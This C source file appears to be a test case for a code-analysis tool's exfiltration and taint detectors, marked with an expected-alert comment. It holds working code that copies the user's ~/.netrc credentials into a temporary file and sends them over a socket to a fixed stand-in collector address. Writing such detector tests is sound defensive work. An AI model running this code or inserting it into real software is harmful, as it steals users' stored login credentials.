/*
 * behavior.exfiltration: the credential is staged in a temporary file. The
 * lines of ~/.netrc are copied into tmpfile(), which is read back and sent
 * to a fixed collector. The flow passes through a file, so the taint rule
 * only sees "file content" sent (a note); the behaviour still reports the
 * credential read and the send of the same entry point.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static FILE *stage(void)
{
    char path[512], line[256];
    const char *home = getenv("HOME");
    FILE *in, *out = tmpfile();
    snprintf(path, sizeof path, "%s/.netrc", home ? home : "");
    in = fopen(path, "r");
    if (!in || !out)
        return NULL;
    while (fgets(line, sizeof line, in))
        fputs(line, out);
    fclose(in);
    rewind(out);
    return out;
}

int main(void)
{
    struct sockaddr_in peer;
    char buf[512];
    size_t n;
    FILE *staged = stage();
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (!staged || s < 0)
        return 1;
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(8443);
    peer.sin_addr.s_addr = inet_addr("192.0.2.44");
    if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
        return 1;
    while ((n = fread(buf, 1, sizeof buf, staged)) > 0)
        send(s, buf, n, 0); // $ Alert[behavior.exfiltration] Alert[taint.exfiltration]
    close(s);
    return 0;
}
